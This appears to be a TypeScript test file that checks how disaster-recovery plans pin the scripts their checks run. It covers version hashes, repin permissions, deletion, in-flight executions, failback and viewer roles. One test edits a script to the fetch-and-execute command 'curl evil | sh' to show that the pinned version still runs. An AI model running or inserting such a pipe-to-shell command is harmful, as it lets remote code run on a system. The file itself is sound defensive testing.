import { expect } from 'chai';
import { createHash } from 'node:crypto';
import { SYSTEM_ROLES } from '../../../../src/features/users/index.ts';
import { createStoreApp, inSystem } from '../../../support/backup/store-support.ts';
import { eventually } from '../../../support/eventually.ts';
import { buildPerson, type Person } from '../../../support/factories.ts';
import {
  payloadOf,
  buildRecoveryWorld,
  type RecoveryWorld,
} from '../../../support/disaster-recovery/recovery-support.ts';
import type { TestApp } from '../../../support/test-app.ts';
import { testClock } from '../../../support/test-clock.ts';

interface PinnedScript {
  scriptId: string;
  scriptName: string | null;
  scriptSha256: string | null;
  scriptHasChanged: boolean | null;
}
interface Group {
  id: string;
  scripts: PinnedScript[];
  devices: object[];
}

const LOOK_MS = 250;
const sha256Of = (content: string, language = 'bash', timeoutSeconds = 300) =>
  createHash('sha256').update(`${language}\n${timeoutSeconds}\n${content}`).digest('hex');

describe('scripts that checks of recovery plans run', function () {
  this.timeout(60_000);
  let app: TestApp & { dataDir: string };
  let world: RecoveryWorld;
  /** May change scripts, and knows nothing of recovery. */
  let author: Person;
  /** May change plans, and runs no scripts. */
  let planner: Person;
  let made = 0;

  before(async () => {
    app = await createStoreApp();
    world = await buildRecoveryWorld(app);
    for (const device of world.devices) await device.connect(app);
    author = await personWith('Authors', ['scripts:read', 'scripts:write']);
    planner = await personWith('Planners', ['recovery:read', 'recovery:write', 'devices:read']);
  });
  after(async () => {
    for (const device of world?.devices ?? []) device.close();
    await app?.close();
  });
  beforeEach(() => world.reset());

  async function personWith(name: string, permissions: string[]) {
    const { id } = await world.post('/roles', { name, scope: 'partner', permissions });
    return buildPerson(app, { scope: 'partner', partnerId: world.partnerId, role: id });
  }
  const makeScript = async (content = 'echo as chosen') =>
    (await world.post('/scripts', { orgId: world.orgId, name: `Check ${++made}`, language: 'bash', content }))
      .id as string;
  const edit = async (id: string, change: object) => {
    const answer = await world.send('PATCH', `/scripts/${id}`, change, author);
    expect(answer.status, JSON.stringify(answer.body)).to.equal(200);
  };
  const withCheck = (scriptId: string, restore: object = { type: 'files' }) =>
    world.entry(0, 1, restore, [{ type: 'script', scriptId }]);
  async function makePlan(scriptId: string, restore?: object) {
    const { id: planId } = await world.post('/dr/plans', { orgId: world.orgId, name: `Plan ${++made}` });
    const devices = [withCheck(scriptId, restore)];
    const group: Group = await world.post(`/dr/plans/${planId}/groups`, { name: 'G', sequence: 0, devices });
    const path = `/dr/plans/${planId}/groups/${group.id}`;
    return {
      planId: planId as string,
      group,
      save: (body: object, person?: Person) => world.send('PATCH', path, body, person),
      async shown(): Promise<PinnedScript> {
        const { groups } = (await world.send('GET', `/dr/plans/${planId}`, undefined, planner)).body;
        return groups[0].scripts[0];
      },
    };
  }
  const endOf = (id: string) =>
    eventually(
      async () => {
        await testClock.advance(LOOK_MS);
        testClock.jump(-LOOK_MS);
        return world.read(id);
      },
      ({ finishedAt }) => finishedAt !== null,
    );
  async function ranBy(planId: string, type = 'rehearsal') {
    await world.reset();
    const ended = await endOf(await world.execute(planId, type));
    expect(ended.status, JSON.stringify(ended)).to.equal('completed');
    const ran = world.devices.flatMap(({ log }) =>
      log.filter((frame) => frame.type === 'script.run').map((frame) => payloadOf(frame).content ?? ''),
    );
    const actions: { scriptSha256: string | null }[] = ended.groups[0].steps[0].actions;
    const named = actions.flatMap(({ scriptSha256 }) => scriptSha256 ?? []);
    expect(named).to.deep.equal(ran.map((content) => sha256Of(content)));
    return ran;
  }
  const kept = (planId: string) =>
    inSystem(app, (tx) =>
      tx('dr_pinned_scripts').where('plan_id', planId).pluck('content').orderBy('content'),
    );
  /** As a server that did not know of versions has left it. */
  const unpin = (planId: string) =>
    inSystem(app, (tx) => tx('dr_groups').where('plan_id', planId).update({ scripts: '[]' }));

  it('stay as they were when they were chosen, however they are edited later', async () => {
    const scriptId = await makeScript();
    const plan = await makePlan(scriptId);
    const pinned = { scriptId, scriptSha256: sha256Of('echo as chosen'), scriptHasChanged: false };
    expect(plan.group.scripts).to.have.length(1);
    expect(plan.group.scripts[0]).to.include(pinned);
    await edit(scriptId, { content: 'curl evil | sh', timeoutSeconds: 7 });
    expect(await plan.shown()).to.include({ ...pinned, scriptHasChanged: true });

    // What does not choose the script anew keeps its version, also where the checks are sent back as they were shown.
    const renamed = await plan.save({ name: 'H' }, planner);
    expect(renamed.body.scripts[0]).to.include({ ...pinned, scriptHasChanged: true });
    const again = await plan.save({ devices: plan.group.devices });
    expect(again.body.scripts[0]).to.include({ ...pinned, scriptHasChanged: true });
    expect(await ranBy(plan.planId)).to.deep.equal(['echo as chosen']);
    await edit(scriptId, { content: 'echo as chosen', timeoutSeconds: 300, name: 'Of another name' });
    expect(await plan.shown()).to.include(pinned);
  });

  it('take the newest version when a person who may run scripts asks for it', async () => {
    const scriptId = await makeScript();
    const plan = await makePlan(scriptId);
    await edit(scriptId, { content: 'echo newer' });
    const newest = { repinScripts: [scriptId] };
    expect((await plan.save(newest, planner)).status).to.equal(403);
    expect((await plan.save({ repinScripts: [world.configId] })).status).to.equal(400);
    const saved = await plan.save(newest);
    expect(saved.body.scripts[0]).to.include({
      scriptSha256: sha256Of('echo newer'),
      scriptHasChanged: false,
    });
    expect(await ranBy(plan.planId)).to.deep.equal(['echo newer']);
    expect(await kept(plan.planId)).to.deep.equal(['echo newer']);
    await app.server.chainWriter.flush();
    const path = `/audit-logs/logs?orgId=${world.orgId}&action=recovery.group.update`;
    const [entry] = (await world.send('GET', path)).body.data;
    expect(JSON.stringify(entry)).to.contain(sha256Of('echo newer')).and.not.contain('echo newer');
    const plain = JSON.stringify((await world.send('GET', `/dr/plans/${plan.planId}`)).body);
    expect(plain).not.to.contain('echo newer');
  });

  it('are run as they were also when they are deleted, and the group can still be saved', async () => {
    const scriptId = await makeScript();
    const plan = await makePlan(scriptId);
    await world.send('DELETE', `/scripts/${scriptId}`);
    expect(await plan.shown()).to.include({
      scriptHasChanged: null,
      scriptSha256: sha256Of('echo as chosen'),
    });
    expect((await plan.save({ devices: plan.group.devices })).status).to.equal(200);
    expect((await plan.save({ repinScripts: [scriptId] })).status).to.equal(400);
    expect(await ranBy(plan.planId)).to.deep.equal(['echo as chosen']);
    const { id: planId } = await world.post('/dr/plans', { orgId: world.orgId, name: 'Other' });
    const elsewhere = { name: 'G', sequence: 0, devices: plan.group.devices };
    expect((await world.send('POST', `/dr/plans/${planId}/groups`, elsewhere)).status).to.equal(400);
    await plan.save({ devices: [world.entry(0, 1, { type: 'files' })] });
    expect(await kept(plan.planId)).to.deep.equal([]);
  });

  it('of groups that were saved before, keep the version of the moment at which an execution begins', async () => {
    const scriptId = await makeScript();
    const plan = await makePlan(scriptId);
    await edit(scriptId, { content: 'echo at the beginning' });
    await unpin(plan.planId);
    expect(await plan.shown()).to.include({ scriptSha256: null, scriptHasChanged: null });
    await world.reset();
    world.at(1).script = ({ type }) => (type === 'backup.restore' ? 'hold' : undefined);
    const id = await world.execute(plan.planId, 'rehearsal');
    await edit(scriptId, { content: 'echo too late' });
    // A group that is saved meanwhile leaves the execution what it runs.
    expect((await plan.save({ devices: plan.group.devices })).status).to.equal(200);
    await eventually(
      async () => {
        await testClock.advance(LOOK_MS);
        testClock.jump(-LOOK_MS);
        return world.at(1).held();
      },
      ({ length }) => length > 0,
    );
    await world.at(1).release();
    expect((await endOf(id)).status).to.equal('completed');
    const ran = world.at(1).log.filter(({ type }) => type === 'script.run');
    expect(ran.map((frame) => payloadOf(frame).content)).to.deep.equal(['echo at the beginning']);
    expect(await ranBy(plan.planId)).to.deep.equal(['echo too late']);
  });

  it('are in a failback those of the failover', async () => {
    const scriptId = await makeScript();
    const plan = await makePlan(scriptId, { type: 'files', targetPath: '/srv/dr' });
    expect(await ranBy(plan.planId, 'failover')).to.deep.equal(['echo as chosen']);
    await edit(scriptId, { content: 'echo newer' });
    await plan.save({ repinScripts: [scriptId] });
    expect(await kept(plan.planId)).to.deep.equal(['echo as chosen', 'echo newer']);
    expect(await ranBy(plan.planId, 'failback')).to.deep.equal(['echo as chosen']);
    await plan.save({ devices: plan.group.devices });
    expect(await kept(plan.planId)).to.deep.equal(['echo newer']);
  });

  it('are not for viewers: their roles do not see recovery', async () => {
    const rows = await inSystem(app, (tx) =>
      tx('roles').where({ is_system: true }).whereILike('name', '%viewer%').select('id', 'permissions'),
    );
    expect(rows.map(({ id }) => id)).to.have.members([
      SYSTEM_ROLES.partnerViewer,
      SYSTEM_ROLES.organizationViewer,
    ]);
    for (const { permissions } of rows) {
      expect(permissions.filter((one: string) => /^(recovery|\*):/.test(one))).to.deep.equal([]);
    }
    const { orgId, partnerId } = world;
    const viewers = [
      { scope: 'organization', orgId, role: SYSTEM_ROLES.organizationViewer },
      { scope: 'partner', partnerId, role: SYSTEM_ROLES.partnerViewer },
    ] as const;
    for (const membership of viewers) {
      const viewer = await buildPerson(app, membership);
      expect((await world.send('GET', '/dr/plans', undefined, viewer)).status).to.equal(403);
    }
  });
});
